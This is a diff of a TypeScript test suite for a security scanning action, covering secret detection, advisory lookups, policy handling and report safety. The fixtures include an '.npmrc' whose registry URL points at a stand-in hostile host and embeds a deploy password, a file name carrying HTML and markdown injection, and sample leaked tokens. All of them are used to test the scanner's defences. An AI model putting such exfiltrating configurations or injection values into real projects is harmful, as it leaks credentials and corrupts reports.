@@ -1,33 +1,29 @@
+import type { Context } from '@slipway/shared/action'
 import { parseDuration } from '@slipway/shared/core/duration'
-import { aContext, aRunner, exited, fakeConfigPath, fakeExec, fakeFiles, fakeLog } from '@slipway/shared/testing/fakes'
+import type { Exec } from '@slipway/shared/ports/exec'
+import { aContext, answered, aRunner, fakeConfigPath, fakeFiles, fakeHttp, fakeLog } from '@slipway/shared/testing/fakes'
 import { withoutCode } from '@slipway/shared/testing/markdown'
 import { describe, expect, it } from 'vitest'
 import { type Inputs, inputsSchema } from '../src/inputs.ts'
 import { newSince, scan } from '../src/run.ts'
-import { samples } from './samples.ts'
+import { aGit, samples } from './samples.ts'
 
 function anInputs(overrides: Partial<Inputs> = {}): Inputs {
   return { ...inputsSchema.parse({ path: '.', timeout: '5m', uploadSarif: 'false' }), scanners: ['secret-patterns'], ...overrides }
 }
 
 function aRepository(files: Readonly<Record<string, string>>, base: Readonly<Record<string, string>> = {}) {
-  const listing = (paths: readonly string[]) => paths.map((path) => `100644 ${'0'.repeat(40)} 0\t${path}\0`).join('')
-  const tree = fakeFiles(Object.fromEntries(Object.entries(files).map(([path, text]) => [`/workspace/${path}`, text])))
-  const exec = fakeExec(([, command, ...args], { env }) => {
-    if (command === 'ls-files') return exited(0, listing(Object.keys(env['GIT_INDEX_FILE'] === undefined ? files : base)))
-    if (command === 'read-tree' && args[0] === 'gone^{tree}') return exited(128, '', 'fatal: Not a valid object name')
-    if (command === 'checkout-index') for (const [path, text] of Object.entries(base)) tree.all.set(`/temp/slipway-base/tree/${path}`, text)
-    return exited(0)
-  })
-  return aContext({ files: tree, exec })
+  const { exec, openObjects } = aGit({ HEAD: files, main: base })
+  const context = aContext({ files: fakeFiles(), exec })
+  return { context, scan: (inputs: Inputs, over: Partial<Context> = {}) => scan(inputs, { ...context, ...over }, { openObjects }) }
 }
 
 const leak = `const token = '${samples.github}'\n`
 
 describe('scan', () => {
   it('passes a clean tree, and leaves report, SARIF and evidence', async () => {
-    const context = aRepository({ 'a.ts': 'ok' })
-    const outcome = await scan(anInputs(), context)
+    const { context, scan } = aRepository({ 'a.ts': 'ok' })
+    const outcome = await scan(anInputs())
     expect(outcome).toMatchObject({
       ok: true,
       evidence: { verdict: 'pass', headline: 'COMPLIANT: no findings' },
@@ -42,8 +38,8 @@ describe('scan', () => {
 
   it('fails on a secret, and shows its value nowhere', async () => {
     const log = fakeLog()
-    const context = { ...aRepository({ 'a.ts': leak, '.env.example': `API_TOKEN=${samples.npm}` }), log }
-    const outcome = await scan(anInputs({ scanners: undefined }), context)
+    const { context, scan } = aRepository({ 'a.ts': leak, '.env.example': `API_TOKEN=${samples.npm}` })
+    const outcome = await scan(anInputs({ scanners: undefined }), { log })
     expect(outcome).toMatchObject({ ok: false, evidence: { verdict: 'fail' }, outputs: { compliance: 'NON-COMPLIANT', secrets: '2' } })
     expect(outcome.annotations).toMatchObject([
       { level: 'error', file: '.env.example', startLine: 1 },
@@ -55,8 +51,8 @@ describe('scan', () => {
   })
 
   it('says what to do about each finding, in both reports', async () => {
-    const context = aRepository({ 'a.ts': leak })
-    const outcome = await scan(anInputs(), context)
+    const { context, scan } = aRepository({ 'a.ts': leak })
+    const outcome = await scan(anInputs())
     expect(await context.files.read(outcome.outputs?.['report-markdown'] ?? '')).toContain('Revoke it first')
     expect(JSON.parse((await context.files.read(outcome.outputs?.['report-json'] ?? '')) ?? '')).toMatchObject({
       status: 'NON-COMPLIANT',
@@ -68,80 +64,80 @@ describe('scan', () => {
   })
 
   it('judges only what is new since the base, and still reports the rest', async () => {
-    const context = aRepository({ 'moved.ts': `\n${leak}` }, { 'a.ts': leak })
-    const outcome = await scan(anInputs({ base: 'main' }), context)
+    const { scan } = aRepository({ 'moved.ts': `\n${leak}` }, { 'a.ts': leak })
+    const outcome = await scan(anInputs({ base: 'main' }))
     expect(outcome).toMatchObject({ ok: true, evidence: { verdict: 'pass', findings: [{ kind: 'secret' }], details: { new: [] } } })
-    expect(await context.files.exists('/temp/slipway-base')).toBe(false)
   })
 
   it('fails on what the base did not have', async () => {
-    expect(await scan(anInputs({ base: 'main' }), aRepository({ 'a.ts': leak }, { 'a.ts': 'ok' }))).toMatchObject({ ok: false })
+    expect(await aRepository({ 'a.ts': leak }, { 'a.ts': 'ok' }).scan(anInputs({ base: 'main' }))).toMatchObject({ ok: false })
   })
 
   it('says how to mend a base that is not there', async () => {
-    await expect(scan(anInputs({ base: 'gone' }), aRepository({ 'a.ts': '' }))).rejects.toMatchObject({
+    await expect(aRepository({ 'a.ts': '' }).scan(anInputs({ base: 'gone' }))).rejects.toMatchObject({
       message: expect.stringContaining('"gone"'),
       hint: expect.stringContaining('fetch-depth'),
     })
   })
 
   it('takes the policy from the configuration, and the input before it', async () => {
-    const audit = {
-      auditReportVersion: 2,
-      vulnerabilities: { x: { via: [{ source: 1, name: 'x', title: 'bad', url: '', severity: 'high' }], nodes: [] } },
+    const advisory = { id: 1, url: '', title: 'bad', severity: 'high', vulnerable_versions: '*' }
+    const lock = JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/x': { version: '1.0.0' } } })
+    const rest = fakeHttp(() => answered(200, JSON.stringify({ x: [advisory] })))
+    const judged = async (inputs: Inputs, config: string) => {
+      const { scan } = aRepository({ 'package-lock.json': lock })
+      return await scan(inputs, { rest, files: fakeFiles({ [fakeConfigPath]: config }) })
     }
-    const context = (config: string) => ({
-      ...aContext({
-        files: fakeFiles({ '/workspace/package-lock.json': '{}', [fakeConfigPath]: config }),
-        exec: fakeExec(([program, command]) =>
-          program === 'git'
-            ? exited(0, '100644 0 0\tpackage-lock.json\0')
-            : command === '--version'
-              ? exited(0, '11.0.0')
-              : exited(1, JSON.stringify(audit)),
-        ),
-      }),
-    })
     const config = (high: string) =>
       `service: harbor\nenvironments: { staging: { url: https://example.com } }\nsecurity: { high: ${high} }\n`
     const only = anInputs({ scanners: ['npm-audit'] })
-    expect((await scan(only, context(config('warn')))).evidence).toMatchObject({ verdict: 'warn', service: 'harbor' })
-    expect((await scan(only, context(config('block')))).evidence.verdict).toBe('fail')
-    expect((await scan({ ...only, failOn: 'none' }, context(config('block')))).evidence.verdict).toBe('warn')
+    expect((await judged(only, config('warn'))).evidence).toMatchObject({ verdict: 'warn', service: 'harbor' })
+    expect((await judged(only, config('block'))).evidence.verdict).toBe('fail')
+    expect((await judged({ ...only, failOn: 'none' }, config('block'))).evidence.verdict).toBe('warn')
     const several = config('warn').replace(
       'service: harbor',
       'product: swiftconcur\nservices: { api: { in: api, url: /api }, web: { in: web, url: / } }',
     )
-    const ofAll = await scan(only, context(several))
+    const ofAll = await judged(only, several)
     expect(ofAll.evidence).toMatchObject({ verdict: 'warn' })
     expect(ofAll.evidence.service).toBeUndefined()
     expect(ofAll.summary).toContain('swiftconcur at')
   })
 
   it('does not pass when no scanner could look', async () => {
-    const outcome = await scan(anInputs({ scanners: ['cargo-audit'] }), aRepository({ 'a.ts': '' }))
+    const outcome = await aRepository({ 'a.ts': '' }).scan(anInputs({ scanners: ['cargo-audit'] }))
     expect(outcome).toMatchObject({ ok: false, evidence: { verdict: 'not-evaluated' }, outputs: { compliance: 'NON-COMPLIANT' } })
     expect(outcome.summary).toContain('there is no Cargo')
   })
 
-  it('hands scanners no secret of the runner', async () => {
-    const context = {
-      ...aRepository({ 'package-lock.json': '{}' }),
-      runner: aRunner({ environment: { INPUT_TOKEN: 't', ACTIONS_RUNTIME_TOKEN: 't', PATH: '/bin' } }),
-    }
+  it('hands a scanner what it needs of the environment and nothing else', async () => {
+    const { context, scan } = aRepository({ 'Cargo.lock': '' })
+    const runner = aRunner({ environment: { INPUT_TOKEN: 't', ACTIONS_RUNTIME_TOKEN: 't', DEPLOY_PASSWORD: 'p', PATH: '/bin' } })
     const seen: Record<string, string>[] = []
-    const exec = fakeExec((_command, { env }) => {
-      seen.push({ ...env })
-      return exited(1)
+    const exec: Exec = (command, options) => {
+      if (command[0] !== 'git') seen.push({ ...options.env })
+      return context.exec(command, options)
+    }
+    await scan(anInputs({ scanners: ['cargo-audit'] }), { runner, exec })
+    expect(seen).toEqual([{ PATH: '/bin' }])
+  })
+
+  it.each<[string, Partial<Inputs>, Record<string, string>]>([
+    ['https://registry.npmjs.org', {}, {}],
+    ['https://mirror.test/npm', {}, { npm_config_registry: 'https://mirror.test/npm/' }],
+    ['https://named.test', { advisoryService: 'https://named.test/' }, { npm_config_registry: 'https://mirror.test/npm/' }],
+  ])('asks %s for advisories with %j and %j, whatever the tree says', async (service, input, environment) => {
+    const { scan } = aRepository({
+      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/x': { version: '1.0.0' } } }),
+      '.npmrc': 'registry=https://hostile.test/$' + '{DEPLOY_PASSWORD}/',
     })
-    await scan(anInputs({ scanners: ['npm-audit'] }), { ...context, exec })
-    expect(seen.length).toBeGreaterThan(0)
-    for (const env of seen) expect(env).toEqual({ PATH: '/bin' })
+    const rest = fakeHttp(() => answered(200, '{}'))
+    await scan(anInputs({ scanners: ['npm-audit'], ...input }), { rest, runner: aRunner({ environment }) })
+    expect(rest.calls.map(({ url, body }) => [url, body])).toEqual([[`${service}/-/npm/v1/security/advisories/bulk`, '{"x":["1.0.0"]}']])
   })
 
   it('keeps hostile file names and titles inert in the report', async () => {
-    const context = aRepository({ 'a<img src=x>|`@mona.ts': leak })
-    const outcome = await scan(anInputs(), context)
+    const outcome = await aRepository({ 'a<img src=x>|`@mona.ts': leak }).scan(anInputs())
     expect(withoutCode(outcome.summary)).not.toMatch(/<img|@mona/)
   })
 })
